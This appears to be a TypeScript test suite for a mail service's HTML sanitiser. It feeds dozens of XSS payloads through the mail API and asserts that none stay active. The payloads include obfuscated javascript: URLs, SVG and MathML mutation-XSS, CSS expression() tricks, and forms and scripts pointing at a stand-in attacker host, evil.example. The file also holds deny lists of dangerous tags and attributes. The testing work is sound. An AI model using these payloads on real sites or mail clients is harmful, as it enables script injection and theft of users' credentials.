// Hostile mail bodies: each is delivered through POST /api/mail and must arrive with none of its
// active content left, in the stored html and in the html part of the raw RFC 5322 message.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import PostalMime from 'postal-mime';
import { testNode, type TestNode } from '../helpers.ts';
import { openTags, sanitizeMailHtml, cleanUrl } from '../../src/hosting/sanitize.ts';

let t: TestNode;
let key: string;
before(async () => {
  t = await testNode();
  key = (await t.machine('hostile inbox')).apiKey;
});
after(async () => { await t.close(); });

const HOSTILE: [string, string][] = [
  ['script', '<p>hi</p><script>alert(1)</script>'],
  ['script src, upper case', '<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>x</p>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img javascript src', `<IMG SRC="javascript:alert('XSS');">`],
  ['a javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['mixed case scheme', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['hex entity first letter', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ['decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['padded entities without semicolons', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
  ['hex entities without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['tab entity inside', '<a href="java&#9;script:alert(1)">x</a>'],
  ['literal tab inside', '<a href="java\tscript:alert(1)">x</a>'],
  ['literal newline inside', '<a href="java\nscript:alert(1)">x</a>'],
  ['newline entity inside', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['leading control and spaces', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['zero-width space before', '<a href="&#8203;javascript:alert(1)">x</a>'],
  ['named colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['decimal colon entity', '<a href="javascript&#58;alert(1)">x</a>'],
  ['partial entity', '<a href="javas&#99;ript:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: html base64', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: html plain', '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>'],
  ['data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['svg onload and script', '<svg onload=alert(1)><script>alert(1)</script></svg><p>after</p>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>'],
  ['svg animate / set', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate><set attributeName="href" to="javascript:alert(1)"/></svg>'],
  ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['iframe src', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['srcdoc on an allowed tag', '<div srcdoc="<script>alert(1)</script>">x</div>'],
  ['object', '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['applet', '<applet code="Evil.class"></applet>'],
  ['form with formaction', '<form action="https://evil.example/steal"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>'],
  ['isindex', '<isindex action=javascript:alert(1) type=image>'],
  ['input image', '<input type=image src=javascript:alert(1)>'],
  ['base', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['style block with import', `<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style><p>x</p>`],
  ['CSS expression()', '<div style="width: expression(alert(1))">x</div>'],
  ['CSS expression split by comment', '<div style="width: exp/**/ression(alert(1))">x</div>'],
  ['CSS escape expression', '<div style="color: \\65 xpression(alert(1))">x</div>'],
  ['CSS url(javascript:)', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['CSS url() tracking', `<div style="background-image: url('https://evil.example/track.png')">x</div>`],
  ['CSS behavior and -moz-binding', '<div style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#xss)">x</div>'],
  ['CSS position overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>'],
  ['event handlers on a paragraph', '<p onclick="alert(1)" onmouseover="alert(1)" ONFOCUS="alert(1)">x</p>'],
  ['body onload', '<body onload=alert(1)><p>x</p></body>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['table background attribute', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['template', '<template><script>alert(1)</script></template><p>x</p>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['img src eval', '<img src=x:alert(alert) onerror=eval(src)>'],
  ['img srcset', '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">'],
  ['protocol-relative link', '<a href="//evil.example/x">x</a>'],
  ['jar scheme', '<a href="jar:https://evil.example/x.jar!/">x</a>'],
  ['double-encoded entity', '<a href="&amp;#x6A;avascript:alert(1)">x</a>'],
  ['unclosed attribute quote', '<a href="javascript:alert(1)>x</a><p>after</p>'],
  ['comment-hidden script', '<!--<script>alert(1)</script>--><p>x</p><!--[if gte mso 9]><script>alert(1)</script><![endif]-->'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]><p>x</p>'],
  ['textarea breakout', '<textarea><script>alert(1)</script></textarea>'],
  ['xmp breakout', '<xmp><script>alert(1)</script></xmp>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['style attribute with url via entity', '<div style="background:&#117;rl(javascript:alert(1))">x</div>'],
];

const DANGEROUS_TAGS = new Set(['script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input', 'button', 'textarea',
  'select', 'option', 'base', 'meta', 'link', 'svg', 'math', 'template', 'noscript', 'isindex', 'video', 'audio', 'source', 'details', 'animate',
  'set', 'mglyph', 'mtext', 'title', 'xmp', 'plaintext', 'body', 'html', 'head']);
const DANGEROUS_ATTRS = /^(on.*|srcdoc|formaction|action|xlink:href|srcset|background|data|code|http-equiv|content|to|values|from|by|attributename)$/i;
const SAFE_SCHEMES = new Set(['http', 'https', 'mailto', 'tel']);

/** Everything left in a sanitised body must be inert. */
function assertInert(name: string, html: string) {
  const lower = html.toLowerCase();
  for (const bad of ['<script', '<style', '<iframe', '<object', '<embed', '<form', '<base', '<meta', '<link', '<svg', '<math',
    'javascript:', 'vbscript:', 'data:', 'expression', 'url(', 'srcdoc', 'formaction', 'xlink', '-moz-binding', 'behavior', 'onerror', 'onload', 'onclick', 'alert(']) {
    assert.ok(!lower.includes(bad), `[${name}] "${bad}" left in: ${html}`);
  }
  for (const tag of openTags(html)) {
    assert.ok(!DANGEROUS_TAGS.has(tag.name), `[${name}] <${tag.name}> left in: ${html}`);
    for (const [attr, value] of Object.entries(tag.attribs)) {
      assert.ok(!DANGEROUS_ATTRS.test(attr), `[${name}] ${attr}= left on <${tag.name}>: ${html}`);
      if (attr === 'href' || attr === 'src' || attr === 'cite') {
        const v = cleanUrl(value);
        const m = /^([a-z][a-z0-9+.-]*):/i.exec(v);
        assert.ok(m ? SAFE_SCHEMES.has(m[1].toLowerCase()) : !/^[^/?#]*:/.test(v) && !/^[/\\]{2}/.test(v), `[${name}] unsafe URL ${value}`);
      }
      if (attr === 'style') assert.ok(!/url\s*\(|expression|\\|\/\*|javascript|binding|behavio|position/i.test(value), `[${name}] style ${value}`);
    }
  }
}

test(`${HOSTILE.length} hostile mail bodies arrive with none of their active content left`, async () => {
  assert.ok(HOSTILE.length >= 30);
  for (const [name, html] of HOSTILE) {
    const sent = await t.call('POST', '/api/mail', { subject: `hostile: ${name}`, html }, key);
    assert.equal(sent.status, 200, `[${name}] ${sent.text}`);
    // what the mailbox holds, as the RFC 5322 message a mail client would read
    const raw = await t.call('GET', `/api/mail/${sent.body.id}/raw`, undefined, key);
    const parsed = await PostalMime.parse(raw.text);
    const delivered = (parsed.html ?? '').replace(/\r\n$/, '');
    assertInert(name, delivered);
    assert.ok(!/alert|javascript/i.test(parsed.text ?? ''), `[${name}] text: ${parsed.text}`);
    assert.notEqual(delivered, html, `[${name}] delivered unchanged`);
  }
});

test('the stored html is the sanitised html', async () => {
  const sent = await t.call('POST', '/api/mail', { subject: 's', html: HOSTILE[2][1] + '<p>kept</p>' }, key);
  const stored = await t.call('GET', `/api/mail/${sent.body.id}`, undefined, key);
  assert.equal(stored.body.html, '<img src="x" /><p>kept</p>');
  assert.deepEqual(stored.body.removed.attributes, ['img@onerror']);
});

test('safe content next to hostile content survives', () => {
  const out = sanitizeMailHtml('<table><tr><td style="color:#333;padding:8px"><a href="https://ok.example/a?b=1&amp;c=2" onclick="x()">ok</a><img src="https://ok.example/i.png" alt="i" width="100"></td></tr></table><script>x</script>').html;
  assert.equal(out, '<table><tr><td style="color:#333;padding:8px"><a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">ok</a><img src="https://ok.example/i.png" alt="i" width="100" /></td></tr></table>');
  assert.equal(sanitizeMailHtml('<p><a href="mailto:me@example.org">m</a> <a href="tel:+123">t</a></p>').html,
    '<p><a href="mailto:me@example.org" target="_blank" rel="noopener noreferrer">m</a> <a href="tel:+123" target="_blank" rel="noopener noreferrer">t</a></p>');
});
